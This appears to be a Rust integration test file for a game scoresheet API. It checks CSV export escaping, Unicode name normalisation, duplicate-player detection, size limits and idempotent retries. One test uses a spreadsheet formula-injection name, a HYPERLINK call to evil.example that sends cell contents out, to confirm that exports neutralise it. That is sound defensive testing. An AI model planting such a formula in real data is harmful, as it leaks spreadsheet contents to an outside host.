//! Records anyone can write: exports that cannot run formulas, names that are identities,
//! retries that store nothing twice, and sheets that cannot grow without bound.

use reqwest::StatusCode;
use serde_json::{json, Value};

use crate::support::{owner_token, spawn_app, Reply, TestApp};

async fn create_sheet(app: &TestApp, names: &[&str]) -> Reply {
    let players: Vec<Value> = names.iter().map(|n| json!({ "name": n })).collect();
    app.post(
        "/v1/sheets",
        &json!({"game": "lucky-jack", "players": players, "options": {"rounds": 3}}),
        None,
    )
    .await
}

/// A three-round Lucky Jack sheet for these players: its id and owner token.
async fn new_sheet(app: &TestApp, names: &[&str]) -> (String, String) {
    let reply = create_sheet(app, names).await;
    assert_eq!(reply.status, StatusCode::CREATED, "{}", reply.body);
    (
        reply.body["sheet"]["id"].as_str().unwrap().to_owned(),
        owner_token(&reply.body),
    )
}

async fn enter(app: &TestApp, id: &str, token: &str, body: Value) -> Reply {
    app.post(&format!("/v1/sheets/{id}/entries"), &body, Some(token))
        .await
}

/// Plays a sheet to its end, seat 0 winning round 1.
async fn finish(app: &TestApp, id: &str, token: &str) {
    let jackpot = json!({"tally": {"jackpot": {"seat": 0, "symbol": "bell", "size": 3}}});
    let nothing = json!({"tally": {"jackpot": null}});
    for body in [jackpot, nothing.clone(), nothing] {
        let reply = enter(app, id, token, body).await;
        assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    }
}

#[tokio::test]
async fn a_csv_export_never_starts_a_typed_cell_with_a_formula_character() {
    let app = spawn_app().await;
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let (id, token) = new_sheet(&app, &[evil, "-Ben", "@Cleo"]).await;
    finish(&app, &id, &token).await;
    let reply = app
        .send(
            app.client
                .get(format!("{}/v1/players/-Ben/history", app.base))
                .query(&[("format", "csv")]),
        )
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    let text = reply.body.as_str().unwrap();
    let row = text.lines().nth(1).unwrap();
    assert!(
        row.contains(",\"'-Ben\","),
        "the player's own cell is quoted and prefixed with a single quote: {row}"
    );
    assert!(
        row.contains(
            ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\"); -Ben; @Cleo\","
        ),
        "the players cell starts with the neutralised name: {row}"
    );
    assert!(
        // The winners cell, then the (empty) cells of an abandon's trace.
        row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",,,,"),
        "so is the winners cell: {row}"
    );
    // Our own numbers stay numbers: Ben's score, rank and result are bare.
    assert!(row.contains(",\"'-Ben\",0,2,false,"), "{row}");
}

fn assert_problem(reply: &Reply, status: StatusCode, code: &str) {
    assert_eq!(reply.status, status, "{}", reply.body);
    assert_eq!(reply.body["code"], code, "{}", reply.body);
}

#[tokio::test]
async fn a_name_made_only_of_invisible_characters_is_refused() {
    let app = spawn_app().await;
    for name in ["\u{200B}", " \u{200B}\u{FEFF} ", "\u{2060}\u{3164}"] {
        let sheet = create_sheet(&app, &[name, "Ben"]).await;
        assert_problem(
            &sheet,
            StatusCode::UNPROCESSABLE_ENTITY,
            "invalid_player_name",
        );
        let hosted = app
            .post(
                "/v1/matches",
                &json!({"game": "lucky-jack", "seats": [{"name": "Ann"}, {"name": name}]}),
                None,
            )
            .await;
        assert_problem(
            &hosted,
            StatusCode::UNPROCESSABLE_ENTITY,
            "invalid_player_name",
        );
    }
}

#[tokio::test]
async fn one_player_cannot_sit_twice_at_a_sheet_or_a_match_whatever_the_case_or_width() {
    let app = spawn_app().await;
    for names in [
        ["Dupe", "dupe", "DUPE"],
        ["Ann", "ＡＮＮ", "Ben"],
        ["Zoé", "Ben", "ZO\u{0045}\u{0301}"],
        ["Ann", "A\u{200B}nn", "Ben"],
    ] {
        let sheet = create_sheet(&app, &names).await;
        assert_problem(&sheet, StatusCode::UNPROCESSABLE_ENTITY, "duplicate_player");
        let seats: Vec<Value> = names.iter().map(|n| json!({ "name": n })).collect();
        let hosted = app
            .post(
                "/v1/matches",
                &json!({"game": "lucky-jack", "seats": seats}),
                None,
            )
            .await;
        assert_problem(
            &hosted,
            StatusCode::UNPROCESSABLE_ENTITY,
            "duplicate_player",
        );
    }
}

#[tokio::test]
async fn names_are_stored_normalised_and_statistics_and_filters_compare_identities() {
    let app = spawn_app().await;
    // Full-width letters and a trailing zero-width space: NFKC and trimming make it "Victim".
    let (id, token) = new_sheet(&app, &["Ｖｉｃｔｉｍ\u{200B}", "Ben"]).await;
    finish(&app, &id, &token).await;
    let (id, token) = new_sheet(&app, &["Cleo", "vic\u{200B}tim"]).await;
    finish(&app, &id, &token).await;

    let sheet = app.get(&format!("/v1/sheets/{id}"), None).await;
    assert_eq!(sheet.body["players"][1]["name"], "vic\u{200B}tim");
    let stats = app.get("/v1/players/VICTIM/stats", None).await;
    assert_eq!(stats.status, StatusCode::OK, "{}", stats.body);
    assert_eq!(stats.body["overall"]["played"], 2, "{}", stats.body);
    assert_eq!(stats.body["overall"]["won"], 1, "{}", stats.body);
    let listed = app
        .send(
            app.client
                .get(format!("{}/v1/matches", app.base))
                .query(&[("player", "ｖｉｃｔｉｍ"), ("kind", "sheet")]),
        )
        .await;
    assert_eq!(listed.status, StatusCode::OK, "{}", listed.body);
    assert_eq!(
        listed.body["items"].as_array().unwrap().len(),
        2,
        "{}",
        listed.body
    );
    let first = app
        .send(
            app.client
                .get(format!("{}/v1/matches", app.base))
                .query(&[("winner", "victim")]),
        )
        .await;
    let players = &first.body["items"][0]["players"];
    assert_eq!(
        players[0], "Victim",
        "stored NFKC and trimmed: {}",
        first.body
    );
}

#[tokio::test]
async fn a_name_past_its_cap_is_refused_naming_the_limit() {
    let app = spawn_app().await;
    let long = "x".repeat(65);
    let reply = create_sheet(&app, &[&long, "Ben"]).await;
    assert_problem(&reply, StatusCode::UNPROCESSABLE_ENTITY, "limit_exceeded");
    assert_eq!(
        reply.body["params"],
        json!({"limit": "name_chars", "max": 64})
    );
}

#[tokio::test]
async fn a_tally_text_past_its_cap_is_refused_naming_the_limit() {
    let app = spawn_app().await;
    let created = app
        .post(
            "/v1/sheets",
            &json!({"game": "lucky-luau", "players": [{"name": "Ann"}, {"name": "Ben"}]}),
            None,
        )
        .await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.body);
    let id = created.body["sheet"]["id"].as_str().unwrap().to_owned();
    let token = owner_token(&created.body);
    // As long as the body limit lets through.
    let long = "x".repeat(60_000);
    let reply = enter(
        &app,
        &id,
        &token,
        json!({"tally": {"leis": [{"player": long, "lei": "blue"}, {"lei": "red"}]}}),
    )
    .await;
    assert_problem(&reply, StatusCode::UNPROCESSABLE_ENTITY, "limit_exceeded");
    assert_eq!(
        reply.body["params"],
        json!({"limit": "tally_text_chars", "max": 500})
    );
}

#[tokio::test]
async fn a_round_takes_twenty_corrections_and_refuses_the_next() {
    let app = spawn_app().await;
    let (id, token) = new_sheet(&app, &["Ann", "Ben"]).await;
    let nothing = json!({"tally": {"jackpot": null}});
    let first = enter(&app, &id, &token, nothing.clone()).await;
    assert_eq!(first.status, StatusCode::OK, "{}", first.body);
    for latest in 1..=20 {
        let reply = enter(
            &app,
            &id,
            &token,
            json!({"corrects": latest, "tally": {"jackpot": null}}),
        )
        .await;
        assert_eq!(
            reply.status,
            StatusCode::OK,
            "correction {latest}: {}",
            reply.body
        );
    }
    let reply = enter(
        &app,
        &id,
        &token,
        json!({"corrects": 21, "tally": {"jackpot": null}}),
    )
    .await;
    assert_problem(&reply, StatusCode::UNPROCESSABLE_ENTITY, "limit_exceeded");
    assert_eq!(
        reply.body["params"],
        json!({"limit": "corrections_per_round", "max": 20})
    );
}

#[tokio::test]
async fn a_sheet_holds_five_hundred_entries_and_refuses_the_next() {
    let app = spawn_app().await;
    let (id, token) = new_sheet(&app, &["Ann", "Ben"]).await;
    // 500 entries written straight to the store (one round corrected over and over, as the
    // service accepted before the caps); the service must refuse a 501st.
    app.sql(&format!(
        "INSERT INTO sheet_entries (match_id, seq, round, tally, corrects, created_at) \
         SELECT '{id}', g, 1, '{{\"jackpot\": null}}', NULLIF(g - 1, 0), now() \
         FROM generate_series(1, 500) g"
    ))
    .await;
    app.sql(&format!(
        "UPDATE matches SET version = 500 WHERE id = '{id}'"
    ))
    .await;
    let reply = enter(&app, &id, &token, json!({"tally": {"jackpot": null}})).await;
    assert_problem(&reply, StatusCode::UNPROCESSABLE_ENTITY, "limit_exceeded");
    assert_eq!(
        reply.body["params"],
        json!({"limit": "sheet_entries", "max": 500})
    );
}

async fn post_with_key(
    app: &TestApp,
    path: &str,
    body: &Value,
    token: Option<&str>,
    key: &str,
) -> Reply {
    let mut request = app
        .client
        .post(format!("{}{path}", app.base))
        .header("Idempotency-Key", key)
        .json(body);
    if let Some(token) = token {
        request = request.bearer_auth(token);
    }
    app.send(request).await
}

#[tokio::test]
async fn an_entry_retried_with_its_key_stores_one_round_and_gets_the_first_answer() {
    let app = spawn_app().await;
    let (id, token) = new_sheet(&app, &["Ann", "Ben"]).await;
    let path = format!("/v1/sheets/{id}/entries");
    let body = json!({"tally": {"jackpot": {"seat": 1, "symbol": "bell", "size": 3}}});
    let first = post_with_key(&app, &path, &body, Some(&token), "round-1").await;
    assert_eq!(first.status, StatusCode::OK, "{}", first.body);
    // Another round is entered in between; the retry still gets the answer it missed.
    let other = enter(&app, &id, &token, json!({"tally": {"jackpot": null}})).await;
    assert_eq!(other.status, StatusCode::OK, "{}", other.body);
    let retry = post_with_key(&app, &path, &body, Some(&token), "round-1").await;
    assert_eq!(retry.status, StatusCode::OK, "{}", retry.body);
    assert_eq!(retry.body, first.body, "the first answer again");
    let sheet = app.get(&format!("/v1/sheets/{id}"), None).await;
    assert_eq!(
        sheet.body["entries"].as_array().unwrap().len(),
        2,
        "{}",
        sheet.body
    );
    assert_eq!(sheet.body["rounds"].as_array().unwrap().len(), 2);

    let reused = post_with_key(
        &app,
        &path,
        &json!({"tally": {"jackpot": null}}),
        Some(&token),
        "round-1",
    )
    .await;
    assert_problem(
        &reused,
        StatusCode::UNPROCESSABLE_ENTITY,
        "idempotency_key_reused",
    );
}

#[tokio::test]
async fn a_finishing_entry_retried_with_its_key_gets_the_same_finished_sheet() {
    let app = spawn_app().await;
    let (id, token) = new_sheet(&app, &["Ann", "Ben"]).await;
    let path = format!("/v1/sheets/{id}/entries");
    let nothing = json!({"tally": {"jackpot": null}});
    for key in ["a", "b"] {
        let reply = post_with_key(&app, &path, &nothing, Some(&token), key).await;
        assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    }
    let last = json!({"tally": {"jackpot": {"seat": 0, "symbol": "bell", "size": 3}}});
    let first = post_with_key(&app, &path, &last, Some(&token), "c").await;
    assert_eq!(first.body["status"], "finished", "{}", first.body);
    let retry = post_with_key(&app, &path, &last, Some(&token), "c").await;
    assert_eq!(retry.body, first.body);
    let stats = app.get("/v1/players/Ann/stats", None).await;
    assert_eq!(stats.body["overall"]["played"], 1, "{}", stats.body);
}

#[tokio::test]
async fn a_create_retried_with_its_key_returns_the_same_match_or_sheet_and_creates_one() {
    let app = spawn_app().await;
    let sheet = json!({"game": "lucky-jack", "players": [{"name": "Ann"}, {"name": "Ben"}]});
    let first = post_with_key(&app, "/v1/sheets", &sheet, None, "sheet-7f3a").await;
    assert_eq!(first.status, StatusCode::CREATED, "{}", first.body);
    let retry = post_with_key(&app, "/v1/sheets", &sheet, None, "sheet-7f3a").await;
    assert_eq!(retry.status, StatusCode::CREATED, "{}", retry.body);
    assert_eq!(retry.body, first.body, "the same sheet and owner token");
    assert_eq!(retry.headers["location"], first.headers["location"]);

    let hosted = json!({"game": "lucky-jack", "seats": [{"name": "Ann"}, {"name": "Ben"}]});
    let first = post_with_key(&app, "/v1/matches", &hosted, None, "match-7f3a").await;
    assert_eq!(first.status, StatusCode::CREATED, "{}", first.body);
    let retry = post_with_key(&app, "/v1/matches", &hosted, None, "match-7f3a").await;
    assert_eq!(retry.body, first.body, "the same match and tokens");
    let listed = app.get("/v1/matches", None).await;
    assert_eq!(
        listed.body["total"], 2,
        "one sheet and one match: {}",
        listed.body
    );

    let other = json!({"game": "lucky-jack", "seats": [{"name": "Cleo"}, {"name": "Ben"}]});
    let reused = post_with_key(&app, "/v1/matches", &other, None, "match-7f3a").await;
    assert_problem(
        &reused,
        StatusCode::UNPROCESSABLE_ENTITY,
        "idempotency_key_reused",
    );
    // The answer is kept sealed: the stored row holds neither the key nor a token in clear.
    let mut db = app.db().await;
    #[derive(diesel::QueryableByName)]
    struct Stored {
        #[diesel(sql_type = diesel::sql_types::Bytea)]
        sealed_response: Vec<u8>,
    }
    use diesel_async::RunQueryDsl;
    let rows: Vec<Stored> = diesel::sql_query("SELECT sealed_response FROM idempotent_creates")
        .load(&mut db)
        .await
        .unwrap();
    assert_eq!(rows.len(), 2);
    let token = first.body["owner_token"].as_str().unwrap();
    for row in rows {
        let text = String::from_utf8_lossy(&row.sealed_response);
        assert!(!text.contains(token) && !text.contains("own_"), "sealed");
    }
}
